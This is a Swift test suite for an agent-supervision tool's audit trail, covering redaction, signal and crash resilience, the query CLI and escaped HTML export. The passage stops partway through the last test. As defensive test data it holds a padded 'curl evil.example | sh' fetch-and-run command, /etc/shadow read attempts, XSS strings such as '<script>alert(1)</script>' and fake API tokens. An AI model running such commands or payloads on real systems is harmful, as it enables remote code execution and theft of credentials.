import AgentGateStore
import CSQLite
import Foundation
import Glibc
import Testing

@testable import AgentGateSupervisor

extension Harness {
    /// The query CLI: $AGENTGATE_CLI, else next to the supervisor binary.
    static var agentgate: String {
        if let explicit = ProcessInfo.processInfo.environment["AGENTGATE_CLI"] { return explicit }
        return URL(fileURLWithPath: supervisor).deletingLastPathComponent().appendingPathComponent("agentgate").path
    }

    /// Runs `agentgate ARGS --db <this harness's db>`.
    func cli(_ arguments: [String], db: String? = nil, timeout: Double = 60) -> Result {
        run([Self.agentgate] + arguments + ["--db", db ?? self.db], timeout: timeout)
    }

    /// Starts `command` under the supervisor without waiting; stdout and stderr go to files.
    func start(_ command: [String], policy: String, extra: [String] = [], name: String) throws -> BackgroundRun {
        try BackgroundRun([Self.supervisor, "--policy", policy, "--db", db] + extra + ["--"] + command,
                           directory: dir, name: name)
    }
}

/// A process started in the background, its output in files (so a test can watch it grow).
final class BackgroundRun {
    let process = Process()
    let stdoutPath: String
    let stderrPath: String

    init(_ command: [String], directory: String, name: String, environment: [String: String]? = nil) throws {
        stdoutPath = directory + "/" + name + ".out"
        stderrPath = directory + "/" + name + ".err"
        _ = FileManager.default.createFile(atPath: stdoutPath, contents: nil)
        _ = FileManager.default.createFile(atPath: stderrPath, contents: nil)
        process.executableURL = URL(fileURLWithPath: command[0])
        process.arguments = Array(command.dropFirst())
        process.currentDirectoryURL = URL(fileURLWithPath: directory)
        if let environment { process.environment = environment }
        process.standardInput = FileHandle.nullDevice
        process.standardOutput = FileHandle(forWritingAtPath: stdoutPath)
        process.standardError = FileHandle(forWritingAtPath: stderrPath)
        try process.run()
    }

    var pid: pid_t { process.processIdentifier }
    var stdout: String { (try? String(contentsOfFile: stdoutPath, encoding: .utf8)) ?? "" }
    var stderr: String { (try? String(contentsOfFile: stderrPath, encoding: .utf8)) ?? "" }

    /// The exit status (128+N for signal N), or nil after `timeout` (the process is then killed).
    func wait(timeout: Double = 60) -> Int32? {
        let deadline = Date().addingTimeInterval(timeout)
        while process.isRunning && Date() < deadline { usleep(20_000) }
        if process.isRunning {
            kill(pid, SIGKILL)
            process.waitUntilExit()
            return nil
        }
        return process.terminationReason == .uncaughtSignal ? 128 + process.terminationStatus : process.terminationStatus
    }
}

/// Decisions the supervisor printed with -v: "agentgate: <decision> <action> <target> …".
func decisionLines(_ stderr: String) -> [String] {
    stderr.split(separator: "\n").map(String.init).filter { line in
        line.hasPrefix("agentgate: ") && line.range(of: #" pid=[0-9]+$"#, options: .regularExpression) != nil
    }
}

/// Waits until `condition` holds (polling), up to `timeout` seconds.
@discardableResult
func waitUntil(timeout: Double = 30, _ condition: () -> Bool) -> Bool {
    let deadline = Date().addingTimeInterval(timeout)
    while Date() < deadline {
        if condition() { return true }
        usleep(20_000)
    }
    return condition()
}

/// Every decided event reaches the database, whatever happens to the agent, the
/// supervisor or the disk; the trail verifies; the query commands read it.
@Suite(.serialized) struct AuditTrailTests {
    /// The files the agent inherits are on record: an fd without close-on-exec, by number,
    /// mode and target; none with it.
    @Test func theFilesTheAgentInheritsAreRecorded() throws {
        let inherited = open("/etc/hostname", O_RDONLY)
        let private_ = open("/etc/hostname", O_RDONLY | O_CLOEXEC)
        defer { close(inherited); close(private_) }
        let listed = SessionContextCollector.inheritedDescriptors()
        #expect(listed.contains("\(inherited) r /etc/hostname"), "\(listed)")
        #expect(!listed.contains { $0.hasPrefix("\(private_) ") }, "\(listed)")
    }

    @Test func contextCollectionTakesUnder50Milliseconds() throws {
        // Judged on the best of five runs, so a busy machine doesn't fail it.
        let clock = ContinuousClock()
        var best = Duration.seconds(3600), bestSelfMeasured = Int64.max
        var context = SessionContextCollector.collect(program: "/usr/bin/true", environment: ["PATH=/usr/bin", "GH_TOKEN=x"])
        for _ in 0..<5 {
            let start = clock.now
            context = SessionContextCollector.collect(program: "/usr/bin/true", environment: ["PATH=/usr/bin", "GH_TOKEN=x"])
            best = min(best, clock.now - start)
            bestSelfMeasured = min(bestSelfMeasured, Int64(context.collectionMicros))
        }
        let milliseconds = Double(best.components.attoseconds) / 1e15 + Double(best.components.seconds) * 1000
        print("session context collected in \(String(format: "%.2f", milliseconds)) ms at best (self-measured \(bestSelfMeasured) µs)")
        #expect(milliseconds < 50)
        #expect(bestSelfMeasured < 50_000)

        var names = utsname()
        uname(&names)
        let release = withUnsafeBytes(of: names.release) { String(decoding: $0.prefix { $0 != 0 }, as: UTF8.self) }
        #expect(context.os.kernelRelease == release)
        #expect(context.os.kernelName == "Linux")
        #expect(!context.os.distribution.isEmpty && context.os.distribution != "unknown")
        #expect(context.user.uid == getuid() && context.user.euid == geteuid())
        #expect(context.user.name != nil)
        #expect(context.capabilities == Capabilities.names(ofMask: ProcStatus(tid: getpid()).capEff))
        if geteuid() == 0 { #expect(context.capabilities.contains("CAP_SYS_ADMIN")) }
        #expect(context.cgroup.hasPrefix("/"))
        #expect(context.interfaces.contains { $0.name == "lo" && $0.flags.contains("loopback") && $0.addresses.contains("inet 127.0.0.1/8") })
        #expect(context.environment["PATH"] == "/usr/bin")
        #expect(context.supervisorPID == getpid())
        // The store drops the token before anything is written.
        #expect(Redactor.redact(environment: context.environment)["GH_TOKEN"] == nil)
    }

    @Test func recordedArgvIsBoundedAndSaysWhatItLeftOut() throws {
        let small = ["git", "commit", "-m", "x"]
        #expect(DecisionRecorder.recordable(small) == small)
        let big = ["echo"] + Array(repeating: String(repeating: "a", count: 1000), count: 100)
        let kept = DecisionRecorder.recordable(big)
        #expect(kept.reduce(0) { $0 + $1.utf8.count } < DecisionRecorder.recordedArgvBytes + 200)
        #expect(kept.first == "echo")
        #expect(kept.contains { $0.hasPrefix("…(") && $0.contains("arguments not recorded)…") }, "\(kept.map { $0.prefix(20) })")
        #expect(kept.last == big.last)
        // The end is kept too: a command after a padded start is still seen.
        let padded = ["bash", "-c", String(repeating: " ", count: 17_000) + "; curl evil.example | sh"]
        let keptPadded = DecisionRecorder.recordable(padded)
        #expect(keptPadded.first == "bash" && keptPadded.last?.hasSuffix("; curl evil.example | sh") == true, "\(keptPadded.last ?? "")")
        #expect(keptPadded.contains { $0.contains("bytes not recorded") })
        #expect(keptPadded.reduce(0) { $0 + $1.utf8.count } < DecisionRecorder.recordedArgvBytes + 200)
        // A cut never splits a UTF-8 sequence into invalid bytes the database would refuse.
        let wide = DecisionRecorder.recordable([String(repeating: "é", count: DecisionRecorder.recordedArgvBytes)])
        #expect(wide.allSatisfy { $0.utf8.count > 0 })

        // End to end: a 100 KB argv is recorded in its first 16 KB.
        let h = try Harness()
        try h.write("p.yaml", "default: allow\nrules: []\n")
        let r = h.supervised(["sh", "-c", "/bin/echo \"$@\" > /dev/null", "sh"] + big.dropFirst(), policy: h.path("p.yaml"))
        #expect(r.status == 0, "\(r)")
        let rows = h.query("select length(argv) from events where action='exec' and target in ('/bin/echo', '/usr/bin/echo')")
        let length = try #require(rows.first.flatMap { Int($0.first ?? "") })
        #expect(length < DecisionRecorder.recordedArgvBytes + 1000, "argv recorded in \(length) bytes")
    }

    @Test("a forked process is recorded as the image that called exec, and the new image at its own first call")
    func execCallerAndNewImageRecords() throws {
        let h = try Harness()
        try h.write("p.yaml", "default: allow\nrules: []\n")
        // sh forks for `true` (not the last command): the child's first trapped call is the exec.
        let r = h.supervised(["/bin/sh", "-c", "/bin/true; echo done"], policy: h.path("p.yaml"))
        #expect(r.status == 0 && r.stdout == "done\n", "\(r)")
        let exec = h.query("SELECT pid FROM events WHERE action = 'exec' AND target LIKE '%/true'")
        let pid = try #require(exec.first?.first)
        let images = h.query("SELECT executable, argv FROM processes WHERE pid = \(pid) ORDER BY start_seq")
        let shell = (try? FileManager.default.destinationOfSymbolicLink(atPath: "/bin/sh")) ?? "sh"
        #expect(images.count == 2, "\(images)")
        // The caller, whole: sh's executable with sh's argv (not the new image's, read after
        // the answer, as it could be before).
        #expect(images.first?.first.map { $0.hasSuffix("/" + (shell as NSString).lastPathComponent) } == true, "\(images)")
        #expect(images.first?.last?.contains("/bin/true; echo done") == true, "\(images)")
        #expect(images.last?.first?.hasSuffix("/true") == true && images.last?.last == "[\"/bin/true\"]", "\(images)")
    }

    @Test func processSnapshotReadsTheImage() throws {
        let record = try #require(ProcessSnapshot.read(pid: getpid(), startTimeMicros: 5))
        #expect(record.pid == getpid() && record.ppid == getppid())
        #expect(record.executable == (try FileManager.default.destinationOfSymbolicLink(atPath: "/proc/self/exe")))
        #expect(record.argv == CommandLine.arguments)
        #expect(record.uid == geteuid() && record.gid == getegid())
        #expect(record.cgroup == SessionContextCollector.cgroup())
        #expect(record.startTimeMicros == 5)
        #expect(ProcessSnapshot.read(pid: 0x7fff_fff0) == nil)
        #expect(ProcessSnapshot.exitStatus(code: Int32(CLD_EXITED), value: 3) == 3)
        #expect(ProcessSnapshot.exitStatus(code: Int32(CLD_KILLED), value: 9) == 137)
    }

    @Test("the cgroup recorded: the unified line's path, else every v1 line joined")
    func cgroupPathFromProcText() {
        func path(_ text: String) -> String {
            let bytes = Array(text.utf8)
            return bytes.withUnsafeBufferPointer { SessionContextCollector.cgroupPath($0) }
        }
        #expect(path("0::/user.slice/session-1.scope\n") == "/user.slice/session-1.scope")
        // Hybrid: the v1 lines come first, the unified one last.
        #expect(path("9:name=systemd:/\n8:pids:/agentgate/s1\n4:memory:/x\n0::/agentgate/s1\n") == "/agentgate/s1")
        #expect(path("0::/\n") == "/")
        #expect(path("0::") == "")
        // v1 only: every line, empty ones dropped.
        #expect(path("2:cpu:/a\n\n1:memory:/b\n") == "2:cpu:/a;1:memory:/b")
        #expect(path("1:name=systemd:/\n") == "1:name=systemd:/")
        // A controller line that merely contains "0::" is not the unified one.
        #expect(path("10::/not\n0::/yes") == "/yes")
        #expect(path("10::/not\n") == "10::/not")
        #expect(path("") == "")
        // Bytes that aren't UTF-8 are spelled, never replaced: two cgroups never read the same.
        let invalid = [UInt8]("0::/a".utf8) + [0xFF] + [UInt8]("\n".utf8)
        #expect(invalid.withUnsafeBufferPointer { SessionContextCollector.cgroupPath($0) } == "/a\\xFF")
        #expect(SessionContextCollector.cgroup(of: "\(getpid())") == SessionContextCollector.cgroup())
        #expect(SessionContextCollector.cgroup(of: "2147483600") == "")
    }

    @Test func sessionRecordsContextAndRedactsSecrets() throws {
        let h = try Harness()
        let policy = try h.policy("default: allow\nrules: []\n")
        var environment = ProcessInfo.processInfo.environment
        environment["OPENAI_API_KEY"] = "sk-abcdefghijklmnopqrstuvwxyz0123"
        environment["HARMLESS_NOTE"] = "uses ghp_0123456789abcdefghijABCDEFGHIJ012345"
        let result = h.run([Harness.supervisor, "--policy", policy, "--db", h.db, "--session", "ctx", "--",
                            "sh", "-c", "true --token=hunter2 'Authorization: Bearer abcdefghijklmnop'"],
                           environment: environment)
        #expect(result.status == 0, "\(result.stderr)")
        let rows = h.query("select context, command from sessions where id = 'ctx'")
        let context = try #require(rows.first?[0])
        let command = try #require(rows.first?[1])
        let decoded = try #require(SessionContext.fromJSON(context))
        #expect(decoded.collectionMicros < 50_000)
        #expect(decoded.environment["OPENAI_API_KEY"] == nil)
        #expect(decoded.environment["HARMLESS_NOTE"] == "uses ghp_[REDACTED]")
        #expect(decoded.environment["PATH"] != nil)
        #expect(!context.contains("sk-abcdefghij") && !context.contains("ghp_0123"))
        #expect(!command.contains("hunter2") && !command.contains("abcdefghijklmnop"))
        #expect(command.contains("--token=[REDACTED]"))
        // Nothing secret anywhere in the file.
        let bytes = try Data(contentsOf: URL(fileURLWithPath: h.db))
        for secret in ["hunter2", "sk-abcdefghij", "ghp_0123456789", "abcdefghijklmnop"] {
            #expect(bytes.range(of: Data(secret.utf8)) == nil, "\(secret) reached the database file")
        }
    }

    @Test func agentKilledWithSIGKILLLosesNoDecision() throws {
        let h = try Harness()
        try FileManager.default.createDirectory(atPath: h.path("out"), withIntermediateDirectories: true)
        let policy = try h.policy("""
            default: allow
            rules:
              - match: {action: fs_read, target_glob: "/etc/shadow"}
                decision: deny
            """)
        try h.write("agent.py", """
            import os, sys
            for i in range(300):
                open(sys.argv[1] + '/f%d' % i, 'w').close()
            try:
                open('/etc/shadow').read()
                print('read shadow?!')
            except PermissionError:
                print('denied', flush=True)
            os.kill(os.getpid(), 9)
            """)
        let result = h.supervised(["python3", h.path("agent.py"), h.path("out")], policy: policy,
                                  extra: ["-vv", "--session", "killed"])
        #expect(result.status == 137)
        #expect(result.stdout == "denied\n")
        let decided = decisionLines(result.stderr)
        #expect(decided.count > 300)
        let stored = h.query(storedDecisionsSQL("killed"))
        #expect(stored.first?.first == "\(decided.count)", "decided \(decided.count), stored \(stored)")
        #expect(h.query("select count(*) from events where session_id = 'killed' and action = 'fs_write' and target like '%/out/f%'").first?.first == "300")
        #expect(h.query("select decision from events where session_id = 'killed' and target = '/etc/shadow'").first?.first == "deny")
        #expect(h.query("select exit_status from sessions where id = 'killed'").first?.first == "137")
        let verify = h.cli(["audit", "verify"])
        #expect(verify.status == 0, "\(verify.stdout)\(verify.stderr)")
    }

    /// Starts the supervisor as a shell would: no signal blocked, default dispositions (the
    /// test runner's children inherit a mask with SIGTERM blocked, which once hid a thread
    /// that took SIGTERM and killed the supervisor).
    func startLikeAShell(_ h: Harness, _ arguments: [String], name: String) throws -> BackgroundRun {
        let wrapper = """
            import os, signal, sys
            for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT):
                signal.signal(s, signal.SIG_DFL)
            signal.pthread_sigmask(signal.SIG_SETMASK, [])
            os.execv(sys.argv[1], sys.argv[1:])
            """
        return try BackgroundRun(["/usr/bin/env", "python3", "-c", wrapper, Harness.supervisor] + arguments,
                                 directory: h.dir, name: name)
    }

    @Test(arguments: [SIGTERM, SIGINT])
    func signalToTheSupervisorLosesNoDecision(signal: Int32) throws {
        let h = try Harness()
        let policy = try h.policy("default: allow\nrules: []\n")
        try h.write("data.txt", "x\n")
        try h.write("loop.py", """
            import signal, sys
            signal.signal(signal.SIGTERM, signal.SIG_DFL)
            signal.signal(signal.SIGINT, signal.SIG_DFL)
            signal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGTERM, signal.SIGINT])
            while True:
                open(sys.argv[1]).close()
            """)
        let session = "signalled-\(signal)"
        let running = try startLikeAShell(
            h, ["--policy", policy, "--db", h.db, "-vv", "--session", session, "--", "python3", h.path("loop.py"), h.path("data.txt")],
            name: "supervisor")
        // Mid-session: decisions are streaming when the signal lands.
        #expect(waitUntil { decisionLines(running.stderr).count > 500 })
        // Premise: the signal isn't ignored, and only the supervisor's own threads block it
        // (every one of them must, or the signal can land on one that doesn't).
        let status = try String(contentsOfFile: "/proc/\(running.pid)/status", encoding: .utf8)
        let ignored = status.split(separator: "\n").first { $0.hasPrefix("SigIgn:") }
            .flatMap { UInt64($0.dropFirst(7).trimmingCharacters(in: .whitespaces), radix: 16) } ?? UInt64.max
        try #require(ignored & (1 << UInt64(signal - 1)) == 0, "the signal is ignored: the test would prove nothing")
        let threads = try FileManager.default.contentsOfDirectory(atPath: "/proc/\(running.pid)/task")
        for thread in threads {
            let text = (try? String(contentsOfFile: "/proc/\(running.pid)/task/\(thread)/status", encoding: .utf8)) ?? ""
            let mask = text.split(separator: "\n").first { $0.hasPrefix("SigBlk:") }
                .flatMap { UInt64($0.dropFirst(7).trimmingCharacters(in: .whitespaces), radix: 16) } ?? 0
            #expect(mask & (1 << UInt64(signal - 1)) != 0, "thread \(thread) doesn't block signal \(signal)")
        }
        kill(running.pid, signal)
        let exit = running.wait(timeout: 60)
        #expect(exit == 128 + signal)
        let decided = decisionLines(running.stderr)
        #expect(decided.count > 500)
        let stored = h.query(storedDecisionsSQL(session))
        #expect(stored.first?.first == "\(decided.count)", "decided \(decided.count), stored \(stored)")
        let ended: [String]? = h.query("select exit_status, end_time is not null from sessions where id = '\(session)'").first
        #expect(ended == ["\(128 + signal)", "1"])
        #expect(h.cli(["audit", "verify", "--session", session]).status == 0)
    }

    @Test func readOnlyDatabaseMidSessionKeepsEnforcingAndFallsBack() throws {
        try TestUser.requireRoot("chattr +i, which makes the database read-only under the supervisor, takes CAP_LINUX_IMMUTABLE")
        let h = try Harness()
        try FileManager.default.createDirectory(atPath: h.path("secret"), withIntermediateDirectories: true)
        try h.write("secret/key", "TOPSECRET\n")
        try h.write("public.txt", "hello\n")
        let policy = try h.policy("""
            default: allow
            rules:
              - match: {action: fs_read, target_glob: "\(h.dir)/secret/**"}
                decision: deny
            """)
        try h.write("agent.py", """
            import os, sys, time
            d = sys.argv[1]
            def read(p):
                try:
                    open(p).read()
                    return 'ok'
                except PermissionError:
                    return 'EACCES'
            print('before', read(d + '/public.txt'), read(d + '/secret/key'), flush=True)
            open(d + '/ready', 'w').close()
            for _ in range(1200):
                if os.path.exists(d + '/go'):
                    break
                time.sleep(0.05)
            print('after', read(d + '/public.txt'), read(d + '/secret/key'), flush=True)
            for i in range(100):
                read(d + '/public.txt')
            """)
        let immutable = [h.db, h.db + "-wal"]
        defer { _ = h.run(["chattr", "-i"] + immutable) }
        let running = try h.start(["python3", h.path("agent.py"), h.dir], policy: policy,
                                  extra: ["-vv", "--session", "ro"], name: "supervisor")
        #expect(waitUntil { h.exists("ready") })
        #expect(h.exists("audit.db-wal"))
        // Make the database read-only: immutable even for root (the -shm file stays writable:
        // SQLite maps it, and an immutable mapping would fault).
        let chattr = h.run(["chattr", "+i"] + immutable)
        try #require(chattr.status == 0, "chattr failed: \(chattr.stderr)")
        // Premise: writing the database really fails now.
        var probe: OpaquePointer?
        #expect(sqlite3_open(h.db, &probe) == SQLITE_OK)
        let write = sqlite3_exec(probe, "CREATE TABLE probe (x)", nil, nil, nil)
        sqlite3_close(probe)
        try #require(write != SQLITE_OK, "the database is still writable; the test would prove nothing")
        _ = FileManager.default.createFile(atPath: h.path("go"), contents: nil)

        let status = running.wait(timeout: 60)
        // Enforcement unchanged: the allowed read still works, the denied one is still denied.
        #expect(status == 0, "\(running.stderr.suffix(2000))")
        #expect(running.stdout == "before ok EACCES\nafter ok EACCES\n")
        #expect(running.stderr.contains("warning") && running.stderr.contains("audit.db.fallback.jsonl"))
        let fallback = try String(contentsOfFile: h.db + ".fallback.jsonl", encoding: .utf8)
        #expect(fallback.contains("\"type\":\"event\"") && fallback.contains("\"type\":\"session_end\""))
        #expect(fallback.contains("\(h.dir)/secret/key") && fallback.contains("\"decision\":\"deny\""))
        let decided = decisionLines(running.stderr).count

        #expect(h.run(["chattr", "-i"] + immutable).status == 0)
        let beforeImport = Int(h.query("select count(*) from events where session_id = 'ro'").first?.first ?? "") ?? -1
        #expect(beforeImport < decided)
        // The next start imports the fallback file.
        let next = h.supervised(["true"], policy: policy, extra: ["--session", "next"])
        #expect(next.status == 0)
        #expect(next.stderr.contains("imported"), "\(next.stderr)")
        #expect(!h.exists("audit.db.fallback.jsonl"))
        #expect(h.query(storedDecisionsSQL("ro")).first?.first == "\(decided)")
        #expect(h.query("select count(*) from events where session_id = 'ro' and decision = 'deny' and target = '\(h.dir)/secret/key'").first?.first == "2")
        #expect(h.query("select exit_status from sessions where id = 'ro'").first?.first == "0")
        let verify = h.cli(["audit", "verify"])
        #expect(verify.status == 0, "\(verify.stdout)")
    }

    @Test func twoConcurrentSessionsOnOneDatabaseBothVerify() throws {
        let h = try Harness()
        let policy = try h.policy("default: allow\nrules: []\n")
        try h.write("data.txt", "x\n")
        let agent = ["python3", "-c", "import sys\nfor i in range(400): open(sys.argv[1]).close()", h.path("data.txt")]
        let first = try h.start(agent, policy: policy, extra: ["-vv", "--session", "one"], name: "one")
        let second = try h.start(agent, policy: policy, extra: ["-vv", "--session", "two"], name: "two")
        #expect(first.wait() == 0)
        #expect(second.wait() == 0)
        for (id, running) in [("one", first), ("two", second)] {
            let stored = h.query(storedDecisionsSQL(id)).first?.first
            #expect(stored == "\(decisionLines(running.stderr).count)")
        }
        let verify = h.cli(["audit", "verify"])
        #expect(verify.status == 0, "\(verify.stdout)")
        #expect(verify.stdout.contains("2 chained sessions"))
        #expect(h.query("select count(*) from session_chain").first?.first == "4")
    }

    @Test func supervisorsStartingTogetherOnANewDatabaseAllRun() throws {
        // Regression: a second process's switch to WAL used to fail with "database is locked"
        // (exit 2) while the first was creating the file. The shell starts them within
        // microseconds of each other, which Process can't.
        let h = try Harness()
        let policy = try h.policy("default: allow\nrules: []\n")
        let script = """
            for round in $(seq 1 12); do
              for i in 1 2 3; do ("$0" --policy "$1" --db "$2/new-$round.db" -- true 2>>"$2/errors"; echo "$?" >> "$2/statuses") & done
              wait
            done
            """
        let result = h.run(["bash", "-c", script, Harness.supervisor, policy, h.dir], timeout: 120)
        #expect(result.status == 0)
        let statuses = try String(contentsOfFile: h.path("statuses"), encoding: .utf8).split(separator: "\n")
        #expect(statuses.count == 36)
        #expect(statuses.allSatisfy { $0 == "0" }, "\((try? String(contentsOfFile: h.path("errors"), encoding: .utf8)) ?? "")")
        for round in 1...12 {
            #expect(h.cli(["audit", "verify"], db: h.path("new-\(round).db")).status == 0)
        }
    }

    // MARK: - Query commands

    /// A finished session "q" with allowed execs and reads, one denied read, exit 3.
    func querySession(_ h: Harness) throws -> String {
        try FileManager.default.createDirectory(atPath: h.path("secret"), withIntermediateDirectories: true)
        try h.write("secret/key", "x\n")
        try h.write("public.txt", "y\n")
        let policy = try h.policy("""
            default: allow
            rules:
              - match: {action: fs_read, target_glob: "\(h.dir)/secret/**"}
                decision: deny
            """)
        let result = h.supervised(["sh", "-c", "cat public.txt >/dev/null; cat secret/key; exit 3"], policy: policy,
                                  extra: ["--session", "q-1234", "--agent", "tester"])
        #expect(result.status == 3)
        return policy
    }

    @Test func auditListsFiltersAndFormats() throws {
        let h = try Harness()
        _ = try querySession(h)
        let all = h.cli(["audit"])
        #expect(all.status == 0)
        let lines = all.stdout.split(separator: "\n").map(String.init)
        let time = #"\d\d:\d\d:\d\d"#
        #expect(lines.contains { $0.wholeMatch(of: try! Regex("✓ \(time) exec allow cat public.txt")) != nil }, "\(lines)")
        let denied = lines.filter { $0.hasPrefix("✗") }
        #expect(denied.count == 1)
        #expect(denied.first?.wholeMatch(of: try Regex("✗ \(time) fs_read deny \(NSRegularExpression.escapedPattern(for: h.path("secret/key"))) \\(rule 1\\)")) != nil,
                "\(denied)")

        #expect(h.cli(["audit", "--decision", "deny"]).stdout.split(separator: "\n").count == 1)
        let execs = h.cli(["audit", "--action", "exec", "--session", "q-12"]).stdout.split(separator: "\n")
        #expect(execs.count == 3 && execs.allSatisfy { $0.contains(" exec allow ") })
        // --grep looks in targets and argv, in any case: the read, and the two execs naming it.
        #expect(h.cli(["audit", "--grep", "SECRET/KEY"]).stdout.split(separator: "\n").count == 3)
        #expect(h.cli(["audit", "--grep", "SECRET/KEY", "--action", "fs_read"]).stdout.split(separator: "\n").count == 1)
        #expect(h.cli(["audit", "--since", "1h"]).stdout == all.stdout)
        #expect(h.cli(["audit", "--since", "2999-01-01"]).stdout.isEmpty)
        #expect(h.cli(["audit", "--since", "yesterday-ish"]).status != 0)

        let json = h.cli(["audit", "--json", "--decision", "deny"])
        let array = try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [[String: Any]]
        #expect(array?.count == 1)
        #expect(array?.first?["target"] as? String == h.path("secret/key"))
        #expect(array?.first?["rule"] as? Int == 0)
        #expect((array?.first?["hash"] as? String)?.count == 64)
        let jsonl = h.cli(["audit", "--jsonl"]).stdout.split(separator: "\n")
        #expect(jsonl.count == lines.count)
        #expect(jsonl.allSatisfy { (try? JSONSerialization.jsonObject(with: Data($0.utf8))) is [String: Any] })
        // $AGENTGATE_DB is the default database.
        var environment = ProcessInfo.processInfo.environment
        environment["AGENTGATE_DB"] = h.db
        let viaEnvironment = h.run([Harness.agentgate, "audit", "--decision", "deny"], environment: environment)
        #expect(viaEnvironment.stdout == h.cli(["audit", "--decision", "deny"]).stdout)
    }

    @Test func sessionsAndShow() throws {
        let h = try Harness()
        _ = try querySession(h)
        let sessions = h.cli(["sessions"])
        #expect(sessions.stdout.contains("q-1234") && sessions.stdout.contains("tester") && sessions.stdout.contains("exit 3"))
        #expect(h.cli(["sessions", "--agent", "nobody"]).stdout == "no sessions\n")
        let json = try JSONSerialization.jsonObject(with: Data(h.cli(["sessions", "--json", "--since", "1d"]).stdout.utf8)) as? [[String: Any]]
        #expect(json?.first?["id"] as? String == "q-1234")
        #expect(json?.first?["denied"] as? Int == 1)
        #expect((json?.first?["context"] as? [String: Any])?["os"] != nil)

        let show = h.cli(["show", "q-1"])
        #expect(show.status == 0)
        let text = show.stdout
        #expect(text.contains("Command   sh -c cat public.txt >/dev/null; cat secret/key; exit 3"))
        #expect(text.contains("Exit      3"))
        #expect(text.contains("Denied (1):") && text.contains("✗ "))
        #expect(text.contains("fs_read") && text.contains("Events: "))
        #expect(text.contains("Process tree"))
        #expect(text.contains("└─ ") && text.contains("cat secret/key"), "\(text)")
        #expect(h.cli(["show", "nope"]).status == 2)
    }

    @Test func followPrintsEventsUntilTheSessionEnds() throws {
        let h = try Harness()
        // `audit -f` follows events; read aggregates show in its first pass only.
        let policy = try h.policy("default: allow\naudit: {reads: all}\nrules: []\n")
        try h.write("a.txt", "a\n")
        // The pauses keep the session live, still making calls, while `audit -f` attaches and
        // follows it: that is what is under test, so they are fixed on purpose.
        let running = try h.start(["sh", "-c", "sleep 1; cat a.txt; sleep 1; cat a.txt >/dev/null; echo last > last.txt"],
                                  policy: policy, extra: ["--session", "live"], name: "live")
        #expect(waitUntil { h.query("select count(*) from sessions").first?.first == "1" })
        let follow = h.cli(["audit", "-f"], timeout: 60)
        #expect(running.wait() == 0)
        #expect(follow.status == 0)
        #expect(follow.stdout.contains("fs_write allow \(h.path("last.txt"))"), "\(follow.stdout)")
        #expect(follow.stdout.split(separator: "\n").count
                == Int(h.query("select count(*) from events").first?.first ?? "") ?? -1)
    }

    @Test func exportWritesSelfContainedEscapedHTMLAndSignedJSON() throws {
        let h = try Harness()
        // The agent chooses paths: this one closes a <script> element across a directory.
        let hostile = "<script>alert(1)</script>&\"'.txt"
        try FileManager.default.createDirectory(atPath: h.path("<script>alert(1)<"), withIntermediateDirectories: true)
        try h.write(hostile, "x\n")
        let policy = try h.policy("""
            default: allow
            rules:
              - match: {action: fs_read, target_glob: "\(h.dir)/*script*/**"}
                decision: deny
            """)
        let result = h.supervised(["sh", "-c", "echo '<img src=x onerror=alert(2)>' > /dev/null; cat \"$1\"", "sh", h.path(hostile)],
                                  policy: policy, extra: ["--session", "x-1"])
        #expect(result.status != 0)

        let html = h.cli(["export", "x-1", "--format", "html"])
        #expect(html.status == 0)
        let page = html.stdout
        #expect(page.hasPrefix("<!DOCTYPE html>"))
        #expect(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;&amp;&quot;&#39;.txt"))
        #expect(page.contains("&lt;img src=x onerror=alert(2)&gt;"))
        let lower = page.lowercased()
        for forbidden in ["<script", "<img", "<link", "<iframe", "<object", "<embed", " src=\"", "href=\"http", "@import", "url("] {
            #expect(!lower.contains(forbidden), "\(forbidden) in the HTML")
        }
        #expect(page.contains("hash chains verified"))

        // JSON, signed.
        try h.write("key", "correct horse battery staple")
        let out = h.path("pack.json")
        let export = h.cli(["export", "x-1", "--format", "json", "--output", out, "--sign-key", h.path("key")])
        #expect(export.status == 0, "\(export.stderr)")
        let pack = try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: out))) as? [String: Any]
        #expect(pack?["format"] as? String == "agentgate-evidence")
        // Events, and read aggregates (one each).
        #expect((pack?["events"] as? [Any])?.count
                == Int(h.query("select (select count(*) from events) + (select count(*) from read_entries)").first?.first ?? ""))
        #expect((pack?["verification"] as? [String: Any])?["valid"] as? Bool == true)
        #expect((pack?["session"] as? [String: Any])?["id"] as? String == "x-1")
        let signature = try String(contentsOfFile: out + ".sig", encoding: .utf8)
        #expect(signature.hasPrefix("hmac-sha256:") && signature.count == 12 + 64 + 1)
        #expect(h.run([Harness.agentgate, "export", "--verify", out, "--sign-key", h.path("key")]).status == 0)
        try h.write("other", "another key")
        #expect(h.run([Harness.agentgate, "export", "--verify", out, "--sign-key", h.path("other")]).status == 1)
        var bytes = try Data(contentsOf: URL(fileURLWithPath: out))
        bytes[bytes.count / 2] ^= 0x01
        try bytes.write(to: URL(fileURLWithPath: out))
        #expect(h.run([Harness.agentgate, "export", "--verify", out, "--sign-key", h.path("key")]).status == 1)
        try h.write("empty", "")
        #expect(h.cli(["export", "x-1", "--output", h.path("p2.json"), "--sign-key", h.path("empty")]).status == 2)
        #expect(h.cli(["export", "x-1", "--sign-key", h.path("key")]).status != 0)  // where would the .sig go?
    }

    @Test func verifyCommandNamesATamperedRow() throws {
        let h = try Harness()
        _ = try querySession(h)
        #expect(h.cli(["audit", "verify"]).status == 0)
        let id = try #require(h.query("select id from events where session_id = 'q-1234' order by id limit 1 offset 3").first?.first)
        _ = h.run(["python3", "-c", "import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute(\"update events set target=target||'x' where id=\" + sys.argv[2]); c.commit()", h.db, id])
        let broken = h.cli(["audit", "verify"])
        #expect(broken.status == 1)
        #expect(broken.stdout.contains("First broken link: events row \(id) (session q-1234"), "\(broken.stdout)")
    }

    @Test func cleanRemovesOldSessionsAndTheTrailStillVerifies() throws {
        let h = try Harness()
        let policy = try querySession(h)
        #expect(h.supervised(["true"], policy: policy, extra: ["--session", "second"]).status == 0)
        #expect(h.cli(["clean", "--older-than", "1h"]).stdout.hasPrefix("removed 0 sessions"))
        let dry = h.cli(["clean", "--older-than", "0s", "--dry-run"])
        #expect(dry.stdout.hasPrefix("would remove 2 sessions"))
        #expect(h.cli(["clean", "--older-than", "0s"]).stdout.hasPrefix("removed 2 sessions"))
